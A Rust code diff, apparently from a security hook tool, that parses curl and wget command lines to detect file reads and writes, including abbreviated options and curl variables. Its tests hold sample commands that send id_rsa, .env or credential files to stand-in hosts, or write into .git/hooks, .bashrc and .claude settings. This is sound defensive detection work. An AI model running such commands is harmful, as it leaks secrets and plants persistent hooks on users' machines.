@@ -16,111 +16,6 @@ use hookgate_core::PathOp;
 
 use super::{Reach, Touch};
 
-/// curl's short options that take a value (`-o FILE`, `-oFILE`, `-so FILE`).
-const CURL_SHORT_VALUES: &[char] = &[
-    'A', 'b', 'c', 'C', 'd', 'D', 'e', 'E', 'F', 'H', 'K', 'm', 'o', 'P', 'Q', 'r', 'T', 't', 'u',
-    'U', 'w', 'x', 'X', 'y', 'Y', 'z',
-];
-
-/// curl's long options that take a value (as a separate word or after `=`); a long option not
-/// listed is a switch.
-const CURL_LONG_VALUES: &[&str] = &[
-    "abstract-unix-socket",
-    "alt-svc",
-    "aws-sigv4",
-    "cacert",
-    "capath",
-    "cert",
-    "cert-type",
-    "ciphers",
-    "config",
-    "connect-timeout",
-    "connect-to",
-    "continue-at",
-    "cookie",
-    "cookie-jar",
-    "create-file-mode",
-    "curves",
-    "data",
-    "data-ascii",
-    "data-binary",
-    "data-raw",
-    "data-urlencode",
-    "dns-servers",
-    "dump-header",
-    "etag-compare",
-    "etag-save",
-    "expect100-timeout",
-    "form",
-    "form-string",
-    "ftp-account",
-    "ftp-method",
-    "ftp-port",
-    "header",
-    "hsts",
-    "interface",
-    "ip-tos",
-    "json",
-    "keepalive-time",
-    "key",
-    "key-type",
-    "libcurl",
-    "limit-rate",
-    "local-port",
-    "login-options",
-    "mail-auth",
-    "mail-from",
-    "mail-rcpt",
-    "max-filesize",
-    "max-redirs",
-    "max-time",
-    "netrc-file",
-    "noproxy",
-    "oauth2-bearer",
-    "output",
-    "output-dir",
-    "pass",
-    "proto",
-    "proto-default",
-    "proto-redir",
-    "proxy",
-    "proxy-header",
-    "proxy-user",
-    "pubkey",
-    "quote",
-    "random-file",
-    "range",
-    "rate",
-    "referer",
-    "request",
-    "request-target",
-    "resolve",
-    "retry",
-    "retry-delay",
-    "retry-max-time",
-    "sasl-authzid",
-    "socks4",
-    "socks4a",
-    "socks5",
-    "socks5-hostname",
-    "speed-limit",
-    "speed-time",
-    "stderr",
-    "telnet-option",
-    "time-cond",
-    "tls-max",
-    "trace",
-    "trace-ascii",
-    "unix-socket",
-    "upload-file",
-    "url",
-    "url-query",
-    "user",
-    "user-agent",
-    "variable",
-    "write-out",
-];
-
 /// curl's long options whose value is a file curl writes.
 const CURL_LONG_WRITES: &[&str] = &[
     "output",
@@ -135,71 +30,49 @@ const CURL_LONG_WRITES: &[&str] = &[
     "alt-svc",
 ];
 
-/// wget's short options that take a value.
-const WGET_SHORT_VALUES: &[char] = &[
-    'a', 'A', 'B', 'D', 'e', 'I', 'i', 'l', 'o', 'O', 'P', 'Q', 'R', 't', 'T', 'U', 'w', 'X',
-];
-
-/// wget's long options that take a value (those documented with `=VALUE`; others are
-/// switches).
-const WGET_LONG_VALUES: &[&str] = &[
-    "accept",
-    "accept-regex",
-    "append-output",
-    "base",
-    "bind-address",
-    "body-data",
-    "body-file",
-    "ca-certificate",
-    "ca-directory",
-    "certificate",
-    "certificate-type",
-    "config",
-    "cut-dirs",
-    "default-page",
-    "directory-prefix",
-    "domains",
-    "dns-timeout",
-    "exclude-directories",
-    "exclude-domains",
-    "execute",
-    "header",
-    "http-password",
-    "http-user",
-    "include-directories",
-    "input-file",
-    "level",
-    "limit-rate",
-    "load-cookies",
-    "local-encoding",
-    "max-redirect",
-    "method",
-    "output-document",
-    "output-file",
-    "password",
-    "post-data",
-    "post-file",
-    "private-key",
-    "quota",
-    "read-timeout",
-    "referer",
-    "reject",
-    "reject-regex",
-    "remote-encoding",
-    "restrict-file-names",
-    "save-cookies",
-    "timeout",
-    "tries",
-    "user",
-    "user-agent",
-    "wait",
-    "waitretry",
-    "warc-file",
-];
-
 /// One parsed option: its name (a short letter as a one-char string, or the long name) and
 /// its value when it takes one.
 type Opt = (String, Option<String>);
+
+/// Reads `args` with a tool's full grammar ([`hookgate_shell::cli`]: abbreviations, clusters,
+/// `--no-`/`--expand-` forms), every option under its long name. Options the tool rejects are
+/// dropped (it stops before any transfer); an `--expand-` value cannot be read, so it is
+/// reported in `expanded`, and a write it names is unplaced.
+fn parse_with(grammar: &hookgate_shell::cli::Grammar, args: &[String]) -> Parsed {
+    use hookgate_shell::cli::Word;
+    let mut parsed = Parsed::default();
+    for word in grammar.parse(args) {
+        match word {
+            Word::Option {
+                long,
+                value,
+                negated,
+                expanded,
+            } => {
+                if expanded {
+                    parsed.expanded.push(long);
+                }
+                if !negated {
+                    parsed
+                        .opts
+                        .push((long.to_owned(), value.map(str::to_owned)));
+                }
+            }
+            Word::Operand(o) => parsed.operands.push(o.to_owned()),
+            Word::Rejected(_) => {}
+        }
+    }
+    parsed
+}
+
+/// A curl or wget line read by [`parse_with`].
+#[derive(Debug, Default)]
+struct Parsed {
+    opts: Vec<Opt>,
+    operands: Vec<String>,
+    /// The `--expand-` options: values that come from variables at run time.
+    expanded: Vec<&'static str>,
+}
 
 /// Splits `args` into options and operands by a tool's tables: clustered short switches,
 /// a value-taking short option ending its cluster (`-so F`, `-oF`), `--long VALUE` and
@@ -287,7 +160,7 @@ fn values<'a>(opts: &'a [Opt], names: &'a [&str]) -> impl Iterator<Item = &'a st
 /// `-O`/`--remote-name`/`--remote-name-all` (the last path segment of each URL), and the
 /// side files (`-D`, `-c`, `--trace`, `--stderr`, …). `-` is standard output.
 fn curl(args: &[String]) -> Vec<Touch> {
-    let (opts, operands) = parse(args, CURL_SHORT_VALUES, CURL_LONG_VALUES);
+    let Parsed { opts, operands, .. } = parse_with(&hookgate_shell::cli::CURL, args);
     let dir = values(&opts, &["output-dir"]).last();
     let mut out: Vec<String> = Vec::new();
     for (name, value) in &opts {
@@ -296,13 +169,12 @@ fn curl(args: &[String]) -> Vec<Touch> {
             continue;
         }
         match name.as_str() {
-            "o" | "output" => out.push(join(dir, v)),
-            "D" | "c" => out.push(v.clone()),
-            n if n != "output" && CURL_LONG_WRITES.contains(&n) => out.push(v.clone()),
+            "output" => out.push(join(dir, v)),
+            n if CURL_LONG_WRITES.contains(&n) => out.push(v.clone()),
             _ => {}
         }
     }
-    if has(&opts, &["O", "remote-name", "remote-name-all"]) {
+    if has(&opts, &["remote-name", "remote-name-all"]) {
         let urls = operands
             .iter()
             .map(String::as_str)
@@ -321,40 +193,38 @@ fn curl(args: &[String]) -> Vec<Touch> {
 /// lands on names the server chooses, so its whole landing directory is the write. Logs
 /// (`-o`, `-a`) and saved cookies are written too.
 fn wget(args: &[String]) -> Vec<Touch> {
-    // wget's `-nd`, `-nH`, `-np`, `-nc`, `-nv` are two-letter options, not clusters.
-    let args: Vec<String> = args
-        .iter()
-        .map(|a| match a.as_str() {
-            "-nd" => "--no-directories".to_owned(),
-            "-nH" => "--no-host-directories".to_owned(),
-            "-np" => "--no-parent".to_owned(),
-            "-nc" => "--no-clobber".to_owned(),
-            "-nv" => "--no-verbose".to_owned(),
-            _ => a.clone(),
-        })
-        .collect();
-    let (opts, operands) = parse(&args, WGET_SHORT_VALUES, WGET_LONG_VALUES);
-    let prefix = values(&opts, &["P", "directory-prefix"]).last();
+    let Parsed {
+        mut opts, operands, ..
+    } = parse_with(&hookgate_shell::cli::WGET, args);
+    // `-nd`, `-nH`, `-np`, `-nc`, `-nv`: wget's `-n` with a one-letter value.
+    for (name, value) in &mut opts {
+        if name == "n" {
+            let long = match value.as_deref() {
+                Some("d") => "no-directories",
+                Some("H") => "no-host-directories",
+                Some("p") => "no-parent",
+                Some("c") => "no-clobber",
+                _ => continue,
+            };
+            *name = long.to_owned();
+            *value = None;
+        }
+    }
+    let prefix = values(&opts, &["directory-prefix"]).last();
     let mut out: Vec<Touch> = Vec::new();
     let exact = |p: String| Touch::new(p, PathOp::Write, Reach::Exact);
-    for v in values(
-        &opts,
-        &["o", "a", "output-file", "append-output", "save-cookies"],
-    ) {
+    for v in values(&opts, &["output-file", "append-output", "save-cookies"]) {
         out.push(exact(v.to_owned()));
     }
-    if let Some(doc) = values(&opts, &["O", "output-document"]).last() {
+    if let Some(doc) = values(&opts, &["output-document"]).last() {
         if doc != "-" {
             out.push(exact(doc.to_owned()));
         }
         return out;
     }
-    let recursive = has(
-        &opts,
-        &["r", "recursive", "m", "mirror", "p", "page-requisites"],
-    );
+    let recursive = has(&opts, &["recursive", "mirror", "page-requisites"]);
     let no_dirs = has(&opts, &["no-directories"]);
-    let force_dirs = has(&opts, &["x", "force-directories"]) || recursive && !no_dirs;
+    let force_dirs = has(&opts, &["force-directories"]) || recursive && !no_dirs;
     let no_host = has(&opts, &["no-host-directories"]);
     let default_page = values(&opts, &["default-page"])
         .last()
@@ -445,20 +315,24 @@ fn aria2c(args: &[String]) -> Vec<Touch> {
 /// As reads they meet the sensitive catalog after symlink resolution, so `curl -F f=@link/
 /// credentials` through `ln -s ~/.aws link` is the read of the credential file it is.
 fn curl_reads(args: &[String]) -> Vec<Touch> {
-    let (opts, _) = parse(args, CURL_SHORT_VALUES, CURL_LONG_VALUES);
+    let Parsed { opts, .. } = parse_with(&hookgate_shell::cli::CURL, args);
     let mut out: Vec<String> = Vec::new();
     for (name, value) in &opts {
         let Some(v) = value else { continue };
         let file = match name.as_str() {
-            "d" | "data" | "data-binary" | "data-ascii" | "json" | "H" | "header" => {
-                v.strip_prefix('@')
-            }
+            "data" | "data-binary" | "data-ascii" | "json" | "header" => v.strip_prefix('@'),
             "data-urlencode" => v.split_once('@').map(|(_, f)| f),
-            "F" | "form" => v
+            "form" => v
                 .split_once('=')
                 .and_then(|(_, f)| f.strip_prefix('@').or_else(|| f.strip_prefix('<')))
                 .map(|f| f.split(';').next().unwrap_or(f)),
-            "T" | "upload-file" | "K" | "config" => Some(v.as_str()),
+            "upload-file" | "config" => Some(v.as_str()),
+            // `--variable NAME@FILE` loads the file into a variable (`NAME=TEXT` is text):
+            // whatever `--expand-` option uses it sends that file.
+            "variable" => match (v.find('@'), v.find('=')) {
+                (Some(at), eq) if eq.is_none_or(|eq| at < eq) => v.get(at + 1..),
+                _ => None,
+            },
             _ => None,
         };
         if let Some(f) = file.filter(|f| !f.is_empty() && *f != "-" && *f != ".") {
@@ -478,27 +352,27 @@ fn curl_reads(args: &[String]) -> Vec<Touch> {
 pub(super) fn unplaced(prog: &str, args: &[String]) -> Option<String> {
     let why = match prog {
         "curl" => {
-            let (opts, _) = parse(args, CURL_SHORT_VALUES, CURL_LONG_VALUES);
-            if has(&opts, &["K", "config"]) {
+            let Parsed { opts, expanded, .. } = parse_with(&hookgate_shell::cli::CURL, args);
+            if has(&opts, &["config"]) {
                 "curl -K reads its options, output files included, from a file"
-            } else if has(&opts, &["J", "remote-header-name"]) {
+            } else if has(&opts, &["remote-header-name"]) {
                 "curl -J saves under a name the server chooses"
+            } else if expanded
+                .iter()
+                .any(|o| matches!(*o, "output" | "output-dir") || CURL_LONG_WRITES.contains(o))
+            {
+                "curl --expand- options take their values (output files included) from variables"
             } else {
                 return None;
             }
         }
         "wget" => {
-            let (opts, _) = parse(args, WGET_SHORT_VALUES, WGET_LONG_VALUES);
-            if has(&opts, &["e", "execute", "config"]) {
+            let Parsed { opts, .. } = parse_with(&hookgate_shell::cli::WGET, args);
+            if has(&opts, &["execute", "config"]) {
                 "wget -e/--config set options (output files included) the line does not show"
             } else if has(
                 &opts,
-                &[
-                    "i",
-                    "input-file",
-                    "content-disposition",
-                    "trust-server-names",
-                ],
+                &["input-file", "content-disposition", "trust-server-names"],
             ) {
                 "wget saves under names a file or the server chooses"
             } else {
@@ -558,7 +432,18 @@ mod tests {
             ),
             ("-sSLo f https://x.example/s", &["f"]),
             ("-of https://x.example/s", &["f"]),
-            ("--output=f https://x.example/s", &["f"]),
+            // curl takes no `--name=value`: it rejects the option and transfers nothing.
+            ("--output=f https://x.example/s", &[]),
+            // Unique abbreviations are the option (curl 7.88 reads prefixes).
+            ("--outpu-x f https://x.example/s", &[]),
+            (
+                "--output-d .claude -O https://x.example/settings.json",
+                &[".claude/settings.json"],
+            ),
+            (
+                "--dump-h .git/hooks/pre-commit https://x.example/s",
+                &[".git/hooks/pre-commit"],
+            ),
             (
                 "-sO https://x.example/dir/settings.json?x=1",
                 &["settings.json"],
@@ -631,6 +516,43 @@ mod tests {
         );
         assert!(got("-d @- https://x").is_empty());
         assert!(got("-d name=value https://x").is_empty());
+        // Abbreviated options are the options they abbreviate.
+        assert_eq!(got("--upload-f id_rsa https://x"), ["id_rsa"]);
+        assert_eq!(got("--data-bin @.env https://x"), [".env"]);
+        // A variable loaded from a file (curl 8.3+), sent by an `--expand-` option.
+        assert_eq!(
+            got("--variable k@creds --expand-data {{k}} https://x"),
+            ["creds"]
+        );
+        assert!(got("--variable k=a@b --expand-data {{k}} https://x").is_empty());
+    }
+
+    #[test]
+    fn expanded_curl_values_are_unplaced_writes() {
+        let args = |l: &str| l.split_whitespace().map(str::to_owned).collect::<Vec<_>>();
+        assert!(
+            unplaced(
+                "curl",
+                &args("--variable f=.claude/settings.json --expand-output {{f}} https://x.example")
+            )
+            .is_some()
+        );
+        assert!(
+            unplaced(
+                "curl",
+                &args("--expand-output-d {{d}} -O https://x.example/a")
+            )
+            .is_some()
+        );
+        // A URL from a variable lands where the line says.
+        assert!(
+            unplaced(
+                "curl",
+                &args("--expand-url https://x.example/{{p}} -o out.json")
+            )
+            .is_none()
+        );
+        assert!(unplaced("curl", &args("-sSL -o out.json https://x.example")).is_none());
     }
 
     #[test]
@@ -650,6 +572,16 @@ mod tests {
             ),
             ("-x https://x.example/a/b.txt", &["x.example/a/b.txt"]),
             ("-o log.txt -O - https://x.example/a", &["log.txt"]),
+            // GNU getopt reads unique prefixes, with `=VALUE` or the next word.
+            (
+                "--output-d=.claude/settings.json https://x.example/a",
+                &[".claude/settings.json"],
+            ),
+            (
+                "-q --directory-p .claude https://x.example/settings.json",
+                &[".claude/settings.json"],
+            ),
+            ("--output-f=.bashrc -O- https://x.example/a", &[".bashrc"]),
         ];
         for (line, want) in cases {
             assert_eq!(raws("wget", line), exact(want), "wget {line}");
